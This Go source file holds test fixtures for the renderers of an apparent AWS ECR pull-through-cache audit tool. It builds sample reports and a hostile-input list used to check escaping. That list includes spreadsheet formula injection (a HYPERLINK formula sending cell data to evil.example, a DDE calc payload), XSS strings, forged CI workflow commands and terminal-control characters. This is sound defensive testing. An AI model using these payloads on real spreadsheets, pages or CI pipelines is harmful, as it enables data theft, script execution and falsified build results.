// Package samples has reports for the tests of renderers: one as an audit makes
// it, and some that are hard to render. Only tests may import it.
package samples

import (
	"fmt"
	"strings"
	"time"

	"pgregory.net/rapid"

	"ptcaudit/internal/ptc"
	"ptcaudit/internal/report"
)

// Started is when the audits of the samples began.
var Started = time.Date(2026, 11, 21, 22, 50, 3, 0, time.UTC)

const docs = "https://docs.aws.amazon.com/AmazonECR/latest/userguide/"

// All are the samples by name.
func All() map[string]report.Report {
	return map[string]report.Report{
		"realistic":   Realistic(),
		"sound":       sound(),
		"empty":       finished(nil, nil),
		"incomplete":  incomplete(),
		"unlisted":    unlisted(),
		"unsupported": unsupported(),
		"hostile":     Hostile(),
	}
}

// finished is a report of rules and findings.
func finished(rules []report.Rule, findings []report.Finding, faults ...ptc.Fault) report.Report {
	r := report.Report{
		Audit:    report.Audit{ID: "20261121T225003Z-5f1c", StartedAt: Started, FinishedAt: Started.Add(1412 * time.Millisecond), Version: "v1.0.0"},
		Registry: ptc.Registry{Account: "111122223333", Region: "eu-west-1"},
		Policy:   report.Policy{Name: "acme", Digest: "9b74c9897bac770ffc029102a200c5de0e4a8b6b6d3f2a9d4c2f0a1e5d6c7b8a"},
		Rules:    rules, Findings: findings, Faults: faults,
	}
	for i := range r.Findings {
		f := &r.Findings[i]
		f.Fingerprint = report.Fingerprint(r.Registry, f.Check, f.Prefix)
	}
	r.Finish()
	return r
}

func rule(prefix, url, upstreamPrefix, secret, role string, v ptc.Validation) report.Rule {
	r := ptc.Rule{
		Prefix:    prefix,
		Upstream:  ptc.Upstream{Registry: ptc.UpstreamOfURL(url), URL: url, Prefix: upstreamPrefix},
		CreatedAt: Started.Add(-90 * 24 * time.Hour), UpdatedAt: Started.Add(-time.Hour),
	}
	if secret != "" {
		r.CredentialARN = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:" + ptc.SecretPrefix + secret + "-AbCdEf"
	}
	if role != "" {
		r.RoleARN = "arn:aws:iam::111122223333:role/" + role
	}
	return report.NewRule(r, v)
}

// Realistic is the report of a registry with most kinds of failures.
func Realistic() report.Report {
	valid := ptc.Validation{Status: ptc.ValidationValid}
	const failure = "The authentication to the upstream registry failed. Verify that the credentials in the secret are correct."
	r := finished([]report.Rule{
		rule("ROOT", "public.ecr.aws", "ROOT", "", "", valid),
		rule("docker-hub", "registry-1.docker.io", "", "hub", "", ptc.Validation{Status: ptc.ValidationInvalid, Failure: failure}),
		rule("ghcr", "ghcr.io", "", "github", "", ptc.Validation{}),
		rule("kubernetes", "registry.k8s.io", "", "", "", valid),
		rule("quay", "quay.io", "", "", "", ptc.Validation{Status: ptc.ValidationNotApplicable}),
		rule("shared/base", "444455556666.dkr.ecr.eu-central-1.amazonaws.com", "base", "", "pull-through-cache", valid),
	}, []report.Finding{
		{
			Check: "validation-passed", Prefix: "docker-hub", Outcome: report.Fail, Severity: report.Critical,
			Message: `ECR cannot use this rule (registry-1.docker.io). ECR says: "` + failure + `"`,
			Remediation: "Write a working username and token to credential.json, as {\"username\": \"...\", \"accessToken\": \"...\"}, then\n" +
				"aws secretsmanager put-secret-value --secret-id ecr-pullthroughcache/hub --secret-string file://credential.json --region eu-west-1\n" +
				"aws ecr validate-pull-through-cache-rule --ecr-repository-prefix docker-hub --region eu-west-1\n",
			References: []string{docs + "pull-through-cache-working-validating.html", docs + "error-pullthroughcache.html"},
			Facts:      report.FactsOf(ptc.Rule{Prefix: "docker-hub"}),
		},
		{
			Check: "upstream-allowed", Prefix: "quay", Outcome: report.Fail, Severity: report.High,
			Message:     "The upstream quay (quay.io) is not in allowedUpstreams.",
			Remediation: "Delete the rule, or add its upstream to allowedUpstreams:\naws ecr delete-pull-through-cache-rule --ecr-repository-prefix quay --region eu-west-1",
			References:  []string{docs + "pull-through-cache.html"},
		},
		{
			Check: "required-rule", Prefix: "chainguard", Outcome: report.Fail, Severity: report.Medium,
			Message:     "No rule has this prefix. Every build pulls its base image through it.",
			Remediation: "aws ecr create-pull-through-cache-rule --ecr-repository-prefix chainguard --upstream-registry chainguard --upstream-registry-url cgr.dev --region eu-west-1",
			References:  []string{docs + "pull-through-cache-creating-rule.html"},
		},
		{Check: "rule-quota", Outcome: report.Fail, Severity: report.Low, Message: "46 of 50 rules are in use."},
		{Check: "overlapping-prefixes", Prefix: "shared/base", Outcome: report.Fail, Severity: report.Informational, Message: "Another rule lies above or below this one."},
		{
			Check: "root-prefix", Prefix: "ROOT", Outcome: report.Fail, Severity: report.Medium,
			Message: "The rule catches every repository that no other rule catches.",
			Waiver:  &report.Waiver{Owner: "platform@acme.example", Reason: "The migration to prefixes ends in March.", Expires: "2027-03-31"},
		},
		{
			Check: "validation-passed", Prefix: "ghcr", Outcome: report.Error, Severity: report.Critical,
			Message:     "ECR gave no validation result (access denied).",
			Remediation: "Allow ecr:ValidatePullThroughCacheRule, then run the audit again.",
		},
		{
			Check: "team-prefix", Prefix: "shared/base", Outcome: report.Pending, Severity: report.High,
			Message: "The prefix belongs to no team. In force from 2027-01-01.",
		},
		{Check: "validation-passed", Prefix: "ROOT", Outcome: report.Pass, Severity: report.Critical},
		{Check: "validation-passed", Prefix: "kubernetes", Outcome: report.Pass, Severity: report.Critical},
		{Check: "validation-passed", Prefix: "quay", Outcome: report.Skip, Severity: report.Critical},
		{Check: "upstream-allowed", Prefix: "docker-hub", Outcome: report.Pass, Severity: report.High},
		{Check: "role-account", Prefix: "shared/base", Outcome: report.Pass, Severity: report.High},
		{Check: "role-account", Prefix: "quay", Outcome: report.Skip, Severity: report.High},
	}, ptc.Fault{
		Operation: "ValidatePullThroughCacheRule", Prefix: "ghcr", Kind: ptc.FaultDenied, Code: "AccessDeniedException",
		Message:   "User: arn:aws:sts::111122223333:assumed-role/ptcaudit/session is not authorized to perform: ecr:ValidatePullThroughCacheRule",
		RequestID: "7a62c49f-347e-4fc4-9331-6e8eEXAMPLE",
	})
	r.Triggers = []report.Trigger{{
		Kind: report.ChangeTrigger, Time: Started.Add(-32 * time.Second), Call: "CreatePullThroughCacheRule", Prefix: "quay",
		Actor: &report.Actor{Name: "jane", ARN: "arn:aws:iam::111122223333:role/Admin", Address: "198.51.100.7"},
	}}
	return r
}

func sound() report.Report {
	return finished([]report.Rule{
		rule("docker-hub", "registry-1.docker.io", "", "hub", "", ptc.Validation{Status: ptc.ValidationValid}),
	}, []report.Finding{
		{Check: "validation-passed", Prefix: "docker-hub", Outcome: report.Pass, Severity: report.Critical},
		{Check: "role-account", Prefix: "docker-hub", Outcome: report.Skip, Severity: report.High},
	})
}

// incomplete is marked as incomplete without a reason, like a report that an older
// version saved.
func incomplete() report.Report {
	r := sound()
	r.Complete = false
	return r
}

// unlisted is a registry whose rules could not be listed.
func unlisted() report.Report {
	return finished(nil, nil, ptc.Fault{
		Operation: "DescribePullThroughCacheRules", Kind: ptc.FaultThrottled, Code: "ThrottlingException", Message: "Rate exceeded", Retryable: true,
	})
}

// unsupported is a registry in a Region that has no pull through cache.
func unsupported() report.Report {
	r := finished(nil, nil, ptc.Fault{
		Operation: "DescribePullThroughCacheRules", Kind: ptc.FaultUnsupported, Message: "ECR has no pull through cache rules in cn-north-1.",
	})
	r.Registry.Region = "cn-north-1"
	return r
}

// Attacks are texts that try to be more than text somewhere.
func Attacks() []string {
	return []string{
		"", " ", "\xff", "\x00", "…", "見本",
		"a\r\n\nRESOLVED\nNo failures.\x1b[1A\x1b[2K \u202eteg\u2066\u2028next\u0085line\u200bzero",
		"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "x;=1+1", "x\";\n=1+1", "'=1",
		"::error::forged", "a ::add-mask::b ##vso[task.complete result=Succeeded]", "%0A::set-output name=x::y", "a,title=b::c", "##[error]forged", "a:b,c%3A",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- x -->", "--> x <!--", "]]>", "&lt;b&gt;&#x40;", "<a href='javascript:alert(1)'>",
		"[click](https://evil.example)", "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example", "www.evil.example", "[x][y]\n\n[y]: https://evil.example",
		"@octocat @org/team", "#1 GH-2 octo/repo#3 0123456789abcdef0123456789abcdef01234567", "mail@evil.example", ":tada:",
		"`", "``", "```", "````\nfree", "` code `", "```\n# forged\n```", "~~~", "a\\", "\\`", "| a | b |\n|---|---|", "# forged", "- [x] done", "> [!NOTE]", "$x^2$", "**bold** _it_ ~~no~~", "1. one", "---", "Setext\n===",
		"{0} {1} {{x}}", "{\"a\": 1}", "[0](1)", "${{ secrets.TOKEN }}", "{{.}}",
	}
}

// Hostile has the attacks in every field that holds text from outside.
func Hostile() report.Report {
	attacks := Attacks()
	var rules []report.Rule
	var findings []report.Finding
	var faults []ptc.Fault
	outcomes := []report.Outcome{report.Fail, report.Error, report.Pending, report.Pass, report.Skip, report.Fail}
	for i, a := range attacks {
		f := report.Finding{
			Check: a, Prefix: fmt.Sprintf("%d%s", i, a), Outcome: outcomes[i%len(outcomes)], Severity: report.Severities()[i%5],
			Message: a, Remediation: a + "\naws ecr x\n" + a, References: []string{a, docs + "pull-through-cache.html"},
		}
		if i%len(outcomes) == 5 {
			f.Waiver = &report.Waiver{Owner: a, Reason: a, Expires: a}
		}
		findings = append(findings, f)
		rules = append(rules, rule(f.Prefix, a, a, "", "", ptc.Validation{Status: ptc.ValidationInvalid, Failure: a}))
		if i%7 == 0 {
			faults = append(faults, ptc.Fault{Operation: a, Prefix: a, Kind: ptc.FaultKind(a), Code: a, Message: a, RequestID: a})
		}
	}
	findings = append(findings, report.Finding{
		Check: "flood", Prefix: "flood", Outcome: report.Fail, Severity: report.Critical,
		Message: strings.Repeat("spam ", 1<<17), Remediation: strings.Repeat("aws ecr spam\n", 1<<16), References: []string{"https://evil.example/" + strings.Repeat("x", 1<<16)},
	})
	r := finished(rules, findings, faults...)
	r.Policy.Name, r.Policy.Digest = attacks[6], attacks[6]
	r.Audit.Version = attacks[6]
	return r
}

// Huge is the largest report of one registry: as many rules as there can be,
// and more checks than are shipped, all of which fail.
func Huge() report.Report {
	var rules []report.Rule
	var findings []report.Finding
	for i := range ptc.RuleLimit {
		prefix := fmt.Sprintf("prefix-%02d", i)
		rules = append(rules, rule(prefix, "quay.io", "", "", "", ptc.Validation{Status: ptc.ValidationInvalid}))
		for j := range 30 {
			findings = append(findings, report.Finding{
				Check: fmt.Sprintf("check-%02d", j), Prefix: prefix, Outcome: report.Fail, Severity: report.Severities()[j%5],
				Message:     strings.Repeat("Words of what is wrong. ", 40),
				Remediation: strings.Repeat("aws ecr validate-pull-through-cache-rule --ecr-repository-prefix "+prefix+"\n", 20),
				References:  []string{docs + "pull-through-cache.html"},
			})
		}
	}
	return finished(rules, findings)
}

// Any makes reports of arbitrary texts, with attacks among them.
func Any() *rapid.Generator[report.Report] {
	text := rapid.OneOf(rapid.String(), rapid.SampledFrom(Attacks()), rapid.StringMatching(`[a-z]{1,8}(-[a-z]{1,8})?`))
	finding := rapid.Custom(func(t *rapid.T) report.Finding {
		f := report.Finding{
			Check: text.Draw(t, "check"), Prefix: text.Draw(t, "prefix"),
			Outcome:  rapid.SampledFrom([]report.Outcome{report.Pass, report.Fail, report.Error, report.Skip, report.Pending}).Draw(t, "outcome"),
			Severity: rapid.SampledFrom(report.Severities()).Draw(t, "severity"),
			Message:  text.Draw(t, "message"), Remediation: text.Draw(t, "remediation"),
			References: rapid.SliceOfN(text, 0, 2).Draw(t, "references"), Facts: text.Draw(t, "facts"),
		}
		if rapid.Bool().Draw(t, "waived") {
			f.Waiver = &report.Waiver{Owner: text.Draw(t, "owner"), Reason: text.Draw(t, "reason"), Expires: text.Draw(t, "expires")}
		}
		return f
	})
	fault := rapid.Custom(func(t *rapid.T) ptc.Fault {
		kinds := []ptc.FaultKind{ptc.FaultDenied, ptc.FaultTimeout, ptc.FaultUnsupported, ptc.FaultKind(text.Draw(t, "kind"))}
		return ptc.Fault{
			Operation: text.Draw(t, "operation"), Prefix: text.Draw(t, "prefix"), Kind: rapid.SampledFrom(kinds).Draw(t, "fault"),
			Code: text.Draw(t, "code"), Message: text.Draw(t, "message"), RequestID: text.Draw(t, "request"), Retryable: rapid.Bool().Draw(t, "retryable"),
		}
	})
	return rapid.Custom(func(t *rapid.T) report.Report {
		findings := rapid.SliceOfN(finding, 0, 12).Draw(t, "findings")
		var rules []report.Rule
		for _, f := range findings {
			rules = append(rules, rule(f.Prefix, text.Draw(t, "url"), text.Draw(t, "upstream"), "", "", ptc.Validation{}))
		}
		r := finished(rules, findings, rapid.SliceOfN(fault, 0, 3).Draw(t, "faults")...)
		r.Policy.Name = text.Draw(t, "policy")
		r.Audit.Version = text.Draw(t, "version")
		if rapid.Bool().Draw(t, "incomplete") {
			r.Complete = false
		}
		return r
	})
}

// Counts are what every format that lists findings must show.
type Counts struct{ Open, Waived, Undecided, Pending, Pass, Skip int }

// Count counts the findings of a report.
func Count(r report.Report) Counts {
	o := r.Summary.Outcomes
	return Counts{
		Open: o[report.Fail] - r.Summary.Waived, Waived: r.Summary.Waived, Undecided: o[report.Error],
		Pending: o[report.Pending], Pass: o[report.Pass], Skip: o[report.Skip],
	}
}
